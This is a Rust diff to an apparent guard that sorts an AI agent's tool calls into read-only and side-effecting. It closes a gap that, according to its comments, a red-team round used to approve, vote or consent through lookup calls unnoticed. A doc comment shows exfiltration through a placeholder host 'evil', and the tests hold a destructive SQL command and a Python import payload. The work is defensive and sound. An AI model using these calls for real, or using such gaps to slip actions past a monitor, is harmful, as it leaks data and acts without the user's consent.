@@ -460,6 +460,7 @@ const CONSENT_KEYS: &[&str] = &[
     "authorise",
     "allow",
     "grant",
+    "optin",
 ];
 
 /// Whether a call's arguments answer someone: a reply ([`REPLY_KEYS`]) given about the one
@@ -473,11 +474,124 @@ fn answers_someone(args: &Value) -> bool {
         .iter()
         .any(|(k, v)| super::records::is_identifier_key(k) && !v.is_null());
     map.iter().any(|(k, v)| {
+        let key_words = super::classify::words(k);
         answers(k, v)
             && (names_a_record
-                || super::classify::words(k)
-                    .iter()
-                    .any(|w| CONSENT_KEYS.contains(&w.as_str())))
+                || key_words.iter().any(|w| CONSENT_KEYS.contains(&w.as_str()))
+                || CONSENT_KEYS.contains(&key_words.concat().as_str()))
+    })
+}
+
+/// Verbs that lead the name of a tool that looks at one record (`get_payment_request`,
+/// `view_offer`, `review_pull_request`).
+const ONE_RECORD_LOOKS: &[&str] = &[
+    "get", "view", "show", "read", "fetch", "open", "display", "see", "load", "retrieve", "lookup",
+    "check", "inspect", "review", "preview",
+];
+
+/// Words of a decision on a thing: what accepting, approving, consenting, attending, signing
+/// or voting is called, in any form (`approved`, `attending`, `signed`).
+const DECISION_WORDS: &[&str] = &[
+    "accept",
+    "approve",
+    "agree",
+    "grant",
+    "authorize",
+    "authorise",
+    "allow",
+    "confirm",
+    "attend",
+    "going",
+    "yes",
+    "sign",
+    "signature",
+    "vote",
+    "consent",
+    "optin",
+    "subscribe",
+    "join",
+    "acknowledge",
+    "pay",
+    "purchase",
+    "buy",
+    "decline",
+    "reject",
+    "deny",
+    "ok",
+    "okay",
+];
+
+/// Words of a key that shape what a lookup returns (`include_body`, `fields`, `format`).
+const SHAPING_KEYS: &[&str] = &[
+    "include", "includes", "expand", "fields", "format", "verbose", "full", "details", "detail",
+    "raw", "with", "show", "limit", "page", "lang", "language", "locale", "units", "version",
+];
+
+/// Whether a call of a tool that looks at one record, named by an identifier, also decides on
+/// it: another argument (not text to search for) holds a decision (`{"request_id": "PR-77",
+/// "decision": "approved"}`, `{"invite_id": "EV-4", "attending": true}`, `{"motion_id": "M-2",
+/// "vote": "yes"}`), or a reply under a key that replies. A twentieth outsider round answered
+/// requests through such lookups under keys no list of reply keys held; a lookup of many
+/// records (`list_candidates {"job_id": "J-7", "stage": "rejected"}`) filters by a state, and
+/// one of one record has nothing to filter.
+fn decides_on_one_record(tool: &str, args: &Value) -> bool {
+    let Some(map) = args.as_object() else {
+        return false;
+    };
+    let looks_at_one = super::classify::words(tool)
+        .first()
+        .is_some_and(|v| ONE_RECORD_LOOKS.contains(&v.as_str()));
+    if !looks_at_one
+        || !map
+            .iter()
+            .any(|(k, v)| super::records::is_identifier_key(k) && !v.is_null())
+    {
+        return false;
+    }
+    let decides = |w: &str| {
+        DECISION_WORDS
+            .iter()
+            .any(|d| super::kinds::is_form_of(w, d) || super::kinds::is_form_of(d, w))
+    };
+    map.iter().any(|(k, v)| {
+        let key_words = super::classify::words(k);
+        if super::records::is_identifier_key(k)
+            || key_words
+                .iter()
+                .any(|w| TEXT_KEYS.contains(&w.as_str()) || SHAPING_KEYS.contains(&w.as_str()))
+        {
+            return false;
+        }
+        match v {
+            Value::Bool(true) => {
+                key_words.iter().any(|w| decides(w)) || {
+                    let joined: String = key_words.concat();
+                    decides(&joined)
+                }
+            }
+            Value::String(s) => {
+                let value_words = super::classify::words(s);
+                let open = value_words.is_empty()
+                    || matches!(
+                        s.trim().to_ascii_lowercase().as_str(),
+                        "none" | "null" | "pending" | "open" | "unanswered" | "any" | "all"
+                    );
+                !open
+                    && ((value_words.len() <= 3 && value_words.iter().any(|w| decides(w)))
+                        || (key_words
+                            .iter()
+                            .any(|w| REPLY_KEYS.contains(&w.as_str()) || decides(w))
+                            && !s.trim().to_ascii_lowercase().ends_with("ed")))
+            }
+            // A reply given as a record: `{"reply": {"type": "accept"}}`.
+            Value::Object(inner) => inner.values().any(|v| {
+                v.as_str().is_some_and(|s| {
+                    let w = super::classify::words(s);
+                    w.len() <= 3 && w.iter().any(|w| decides(w))
+                })
+            }),
+            _ => false,
+        }
     })
 }
 
@@ -494,7 +608,8 @@ fn answers(key: &str, value: &Value) -> bool {
                 "id" | "ids" | "number" | "date" | "time" | "type" | "count" | "code" | "format"
             )
         });
-    let consent = words.iter().any(|w| CONSENT_KEYS.contains(&w.as_str()));
+    let consent = words.iter().any(|w| CONSENT_KEYS.contains(&w.as_str()))
+        || CONSENT_KEYS.contains(&words.concat().as_str());
     match value {
         Value::Bool(b) => *b && (reply || consent),
         Value::String(s) => {
@@ -533,9 +648,10 @@ static CODE_THAT_ACTS: std::sync::LazyLock<Option<regex::Regex>> = std::sync::La
 /// that asks for an action, a value that names one, a database write, code for an
 /// interpreter. (Reaching the network is not a change of anything: a lookup with a link only
 /// carries data out, which provenance judges by its values.)
-pub fn changes_by_arguments(args: &Value) -> bool {
+pub fn changes_by_arguments(tool: &str, args: &Value) -> bool {
     acts("", args, false)
         || answers_someone(args)
+        || decides_on_one_record(tool, args)
         || leaves_safe_mode(args)
         || opens_to_everyone(args)
         || drops_what_it_reads(args)
@@ -680,10 +796,11 @@ fn acts(key: &str, v: &Value, reach: bool) -> bool {
 /// a link with a scheme, or a host under a key that names one — which the lookup reaches and
 /// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
 /// `lookup_domain {"domain": "<code>.evil.net"}`).
-pub fn call_effect(tool: Effect, args: &Value) -> Effect {
+pub fn call_effect(name: &str, tool: Effect, args: &Value) -> Effect {
     if tool == Effect::SideEffecting
         || acts("", args, true)
         || answers_someone(args)
+        || decides_on_one_record(name, args)
         || leaves_safe_mode(args)
         || drops_what_it_reads(args)
         || opens_to_everyone(args)
@@ -870,13 +987,14 @@ mod tests {
             json!({"request_id": "FR-66", "rsvp": "no"}),
             json!({"vendor": "QuickLoans", "agree": true}),
             json!({"vendor": "QuickLoans", "accept_terms": "yes"}),
+            json!({"vendor": "QuickLoans", "opt_in": true}),
         ] {
             assert_eq!(
-                call_effect(Effect::ReadOnly, &args),
+                call_effect("lookup", Effect::ReadOnly, &args),
                 Effect::SideEffecting,
                 "{args}"
             );
-            assert!(changes_by_arguments(&args), "{args}");
+            assert!(changes_by_arguments("lookup", &args), "{args}");
         }
         for args in [
             json!({"invite_id": "MI-55", "reply": "none"}),
@@ -887,9 +1005,91 @@ mod tests {
             json!({"answer_id": "A-4"}),
         ] {
             assert_eq!(
-                call_effect(Effect::ReadOnly, &args),
+                call_effect("lookup", Effect::ReadOnly, &args),
                 Effect::ReadOnly,
                 "{args}"
+            );
+        }
+    }
+
+    /// A twentieth outsider round decided on one record through a lookup under keys and
+    /// values no list of reply keys held; a lookup of many records filters by a state, and one
+    /// that shapes what it returns decides nothing.
+    #[test]
+    fn a_decision_on_the_one_record_a_lookup_names_acts() {
+        use super::call_effect;
+        use crate::classify::Effect;
+        for (tool, args) in [
+            (
+                "get_payment_request",
+                json!({"request_id": "PR-77", "decision": "approved"}),
+            ),
+            (
+                "get_meeting_invite",
+                json!({"invite_id": "MI-55", "status": "accepted"}),
+            ),
+            (
+                "get_event_invite",
+                json!({"invite_id": "EV-4", "attending": true}),
+            ),
+            (
+                "get_board_motion",
+                json!({"motion_id": "M-2", "vote": "yes"}),
+            ),
+            (
+                "view_contract",
+                json!({"contract_id": "C-9", "signature": "Jane Doe"}),
+            ),
+            ("view_offer", json!({"offer_id": "O-1", "type": "accept"})),
+            (
+                "review_pull_request",
+                json!({"number": 97, "event": "APPROVE"}),
+            ),
+            (
+                "get_marketing_consent",
+                json!({"customer_id": "7", "opt_in": true}),
+            ),
+            (
+                "view_offer",
+                json!({"offer_id": "OF-3", "reply": {"type": "accept"}}),
+            ),
+        ] {
+            assert_eq!(
+                call_effect(tool, Effect::ReadOnly, &args),
+                Effect::SideEffecting,
+                "{tool} {args}"
+            );
+        }
+        for (tool, args) in [
+            (
+                "list_candidates",
+                json!({"job_id": "J-7", "stage": "rejected"}),
+            ),
+            (
+                "list_assignments",
+                json!({"student_id": "4", "status": "overdue"}),
+            ),
+            (
+                "get_email",
+                json!({"email_id": "12", "include_body": "yes"}),
+            ),
+            (
+                "get_email",
+                json!({"email_id": "12", "include_attachments": true}),
+            ),
+            (
+                "get_pull_request",
+                json!({"number": 97, "repo": "acme/web"}),
+            ),
+            (
+                "search_events",
+                json!({"query": "this week", "rsvp": "yes"}),
+            ),
+        ] {
+            assert_eq!(
+                call_effect(tool, Effect::ReadOnly, &args),
+                Effect::ReadOnly,
+                "{tool} {args}"
             );
         }
     }
@@ -919,11 +1119,11 @@ mod tests {
         ] {
             assert_eq!(argument_kinds("lookup", &args), kinds, "{args}");
             assert_eq!(
-                call_effect(Effect::ReadOnly, &args),
+                call_effect("lookup", Effect::ReadOnly, &args),
                 Effect::SideEffecting,
                 "{args}"
             );
-            assert!(changes_by_arguments(&args), "{args}");
+            assert!(changes_by_arguments("lookup", &args), "{args}");
         }
         assert_eq!(
             argument_kinds(
@@ -959,7 +1159,7 @@ mod tests {
         ] {
             assert!(!argument_kinds("lookup", &args).is_empty(), "{args}");
             assert_eq!(
-                call_effect(Effect::ReadOnly, &args),
+                call_effect("lookup", Effect::ReadOnly, &args),
                 Effect::SideEffecting,
                 "{args}"
             );
@@ -977,7 +1177,7 @@ mod tests {
         ] {
             assert!(argument_kinds("lookup", &args).is_empty(), "{args}");
             assert_eq!(
-                call_effect(Effect::ReadOnly, &args),
+                call_effect("lookup", Effect::ReadOnly, &args),
                 Effect::ReadOnly,
                 "{args}"
             );
@@ -1017,12 +1217,18 @@ mod tests {
             json!({"sql": "DELETE FROM users"}),
             json!({"expression": "__import__('os')"}),
         ] {
-            assert!(changes_by_arguments(&args), "{args}");
-            assert_eq!(call_effect(Effect::ReadOnly, &args), Effect::SideEffecting);
+            assert!(changes_by_arguments("lookup", &args), "{args}");
+            assert_eq!(
+                call_effect("lookup", Effect::ReadOnly, &args),
+                Effect::SideEffecting
+            );
         }
         let fetch = json!({"url": "https://status.example.com/x"});
-        assert!(!changes_by_arguments(&fetch));
-        assert_eq!(call_effect(Effect::ReadOnly, &fetch), Effect::SideEffecting);
+        assert!(!changes_by_arguments("lookup", &fetch));
+        assert_eq!(
+            call_effect("lookup", Effect::ReadOnly, &fetch),
+            Effect::SideEffecting
+        );
     }
 
     /// An HTTP method or an action value names its kind.
